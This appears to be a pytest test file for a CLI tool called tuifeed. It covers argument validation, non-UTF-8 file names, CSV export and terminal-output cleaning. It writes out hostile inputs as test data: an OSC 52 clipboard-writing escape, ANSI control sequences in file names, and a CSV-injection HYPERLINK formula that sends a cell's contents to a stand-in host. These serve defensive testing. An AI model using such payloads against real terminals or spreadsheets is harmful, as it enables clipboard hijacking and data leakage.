"""The data and search commands given what a stranger or a slip of the finger gives: one line, no traceback."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from cli_run import ENV, tuifeed

from tuifeed.models import Clip, EventKind
from tuifeed.store import Store

OSC52 = "\x1b]52;c;aG9zdGlsZQ==\x07"


@pytest.fixture
def db(tmp_path: Path) -> Path:
    path = tmp_path / "tuifeed.db"
    Store(path).close()
    return path


@pytest.mark.parametrize(
    ("args", "option"),
    [
        (("stats", "--days", "1000000"), "--days"),
        (("stats", "--days", "99999999999999999999"), "--days"),
        (("stats", "--days", "0"), "--days"),
        (("search", "ocean", "--limit", "99999999999999999999"), "--limit"),
        (("search", "ocean", "--limit", "0"), "--limit"),
    ],
)
def test_a_count_out_of_range_is_a_usage_error(db: Path, args: tuple[str, ...], option: str) -> None:
    """--days and --limit outside what makes sense say so in one line (exit 2), as argparse does, no traceback."""
    result = tuifeed(*args, db=db)
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert "Traceback" not in result.stderr
    assert f"argument {option}" in result.stderr and "from 1 to" in result.stderr


@pytest.fixture
def odd_name(tmp_path: Path, media_clips: list[Path]) -> Path:
    """A database holding one bundled clip imported under a file name that is not UTF-8."""
    folder = tmp_path / "clips"
    folder.mkdir()
    name = os.fsdecode(b"caf\xff \x1b[2J.mp4")
    shutil.copy(media_clips[0], folder / name)
    db = tmp_path / "odd.db"
    result = tuifeed("import", str(folder), db=db)
    assert result.returncode == 0, result.stderr
    return db


@pytest.mark.parametrize("errors", ["strict", "surrogateescape"])
def test_search_json_is_valid_utf8_for_a_name_that_is_not(odd_name: Path, errors: str) -> None:
    """`search --json`, UTF-8 locale (strict) or C locale (surrogateescape): UTF-8 out, U+FFFD for the byte."""
    with sqlite3.connect(odd_name) as connection:
        (title,) = connection.execute("SELECT title FROM clips").fetchone()
    result = subprocess.run(
        [sys.executable, "-m", "tuifeed", "search", *title.split()[:1], "--json", "--db", str(odd_name)],
        capture_output=True,
        timeout=60,
        stdin=subprocess.DEVNULL,
        env={**ENV, "PYTHONIOENCODING": f"utf-8:{errors}", "TUIFEED_CONFIG": str(odd_name.with_suffix(".toml"))},
    )
    assert result.returncode == 0, result.stderr.decode("utf-8", "replace")
    (clip,) = json.loads(result.stdout.decode("utf-8"))
    assert clip["location"].endswith("/caf\ufffd \x1b[2J.mp4")
    clip["location"].encode("utf-8")


def test_csv_keeps_formula_looking_cells_exactly(tmp_path: Path) -> None:
    """CSV injection, decided: cells are the stored text (README says so and how to open them safely), never altered."""
    db = tmp_path / "formulas.db"
    store = Store(db)
    title, creator = '=HYPERLINK("http://example.invalid/?"&A1,"x")', "@SUM(1+1)"
    store.upsert_clips([Clip(id="f", location="/v/+f.mp4", title=title, creator=creator, tags=("-1+2",))])
    store.record_like("f", True, "2026-03-11T20:30:00.000+00:00")
    store.record_event(EventKind.FOLLOW, creator, True, "2026-03-11T20:31:00.000+00:00")
    store.close()
    out = tmp_path / "history.csv"
    assert tuifeed("export", "--format", "csv", "--out", str(out), db=db).returncode == 0
    like, follow = csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")))
    assert (like["clip_title"], like["clip_creator"], like["clip_location"]) == (title, creator, "/v/+f.mp4")
    assert json.loads(like["clip_tags"]) == ["-1+2"] and follow["creator"] == creator


@pytest.mark.parametrize(
    "args",
    [("search", f"{OSC52}ocean\x1b[2J"), ("mutes", "remove", "creator", f"[/]{OSC52}ana\x9b1m")],
    ids=["search", "mutes remove"],
)
def test_words_given_on_the_command_line_are_echoed_cleaned(db: Path, args: tuple[str, ...]) -> None:
    """A pasted title (or anything a script passes) is text too: "No clip matches" and "not muted" echo it cleaned."""
    result = tuifeed(*args, db=db)
    assert result.returncode == 1, result.stderr
    assert "␛]52" in result.stdout and not [char for char in ("\x1b", "\x07", "\x9b") if char in result.stdout]


@pytest.mark.parametrize("command", [("play",), ("search", "ocean", "--play")])
def test_a_negative_seed_is_a_usage_error(db: Path, command: tuple[str, ...]) -> None:
    """`--seed -1` was a numpy traceback once the feed was built; now argparse says what a seed is."""
    result = tuifeed(*command, "--seed", "-1", db=db)
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
    assert "argument --seed" in result.stderr and "from 0 to" in result.stderr
